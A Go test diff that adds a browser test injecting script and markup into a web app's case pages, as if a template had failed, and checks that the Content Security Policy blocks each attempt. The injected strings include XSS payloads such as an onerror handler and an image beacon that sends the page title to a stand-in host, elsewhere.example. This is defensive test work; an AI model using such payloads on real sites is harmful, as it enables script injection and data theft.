@@ -71,3 +71,34 @@ func TestNothingThatIsWrittenRunsInABrowser(t *testing.T) {
 		}
 	}
 }
+
+// What the test above never lets through is let through here on purpose: each thing is put into a page as if a template had failed, and the browser stops it for
+// the reason that the policy gives.
+func TestThePolicyStopsWhatGetsPastATemplate(t *testing.T) {
+	w := start(t)
+	c := w.at(routing.StateSigned)
+	b := startBrowser(t, w.serve().URL)
+	p := b.tab(sizes[1])
+	p.signIn("office")
+	for _, path := range []string{casePath(c), "/p/" + c.Token} {
+		for violated, html := range map[string]string{
+			"script-src-elem": `const s = document.createElement("script"); s.textContent = "window.pwned = 1"; document.body.append(s)`,
+			"script-src-attr": `document.body.insertAdjacentHTML("beforeend", '<img src="/console/static/none" onerror="window.pwned = 1">')`,
+			"img-src":         `document.body.insertAdjacentHTML("beforeend", '<img src="https://elsewhere.example/?' + document.title + '">')`,
+			"style-src-attr":  `document.body.insertAdjacentHTML("beforeend", '<p style="background: url(https://elsewhere.example/)">x</p>')`,
+			"connect-src":     `fetch("https://elsewhere.example/").catch(() => {})`,
+			"frame-src":       `document.body.insertAdjacentHTML("beforeend", '<iframe src="https://elsewhere.example/"></iframe>')`,
+			"object-src":      `document.body.insertAdjacentHTML("beforeend", '<object data="https://elsewhere.example/x"></object>')`,
+			"base-uri":        `document.head.insertAdjacentHTML("beforeend", '<base href="https://elsewhere.example/">')`,
+			"form-action":     `document.body.insertAdjacentHTML("beforeend", '<form id="away" method="post" action="https://elsewhere.example/"></form>'); document.getElementById("away").submit()`,
+		} {
+			p.open(path)
+			eval[bool](p, `window.stopped = [], document.addEventListener("securitypolicyviolation", e => window.stopped.push(e.effectiveDirective)), true`)
+			eval[bool](p, `(() => { `+html+`; return true })()`)
+			p.await(fmt.Sprintf(`window.stopped.some(d => d === %q)`, violated))
+			if eval[bool](p, `!!window.pwned`) {
+				t.Errorf("%s: %s: a script ran", path, violated)
+			}
+		}
+	}
+}
